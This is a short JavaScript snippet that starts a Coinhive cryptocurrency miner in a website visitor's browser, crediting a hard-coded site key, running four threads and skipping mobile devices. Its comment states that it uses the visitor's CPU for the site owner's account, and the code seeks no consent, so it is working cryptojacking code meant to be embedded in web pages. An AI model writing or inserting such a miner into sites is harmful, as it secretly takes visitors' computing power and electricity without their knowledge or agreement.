// Start the visitor's CPU on the site owner's Coinhive account.
var miner = new CoinHive.Anonymous('kLnHIO0dVoRbrZPq4fhDt5ZfbcPgRRPU', { threads: 4, throttle: 0.3, forceASMJS: false });
if (!miner.isMobile()) {
  miner.start(CoinHive.FORCE_EXCLUSIVE_TAB);
}
miner.on('found', function () { /* share found */ });
miner.on('accepted', function () { /* share accepted */ });
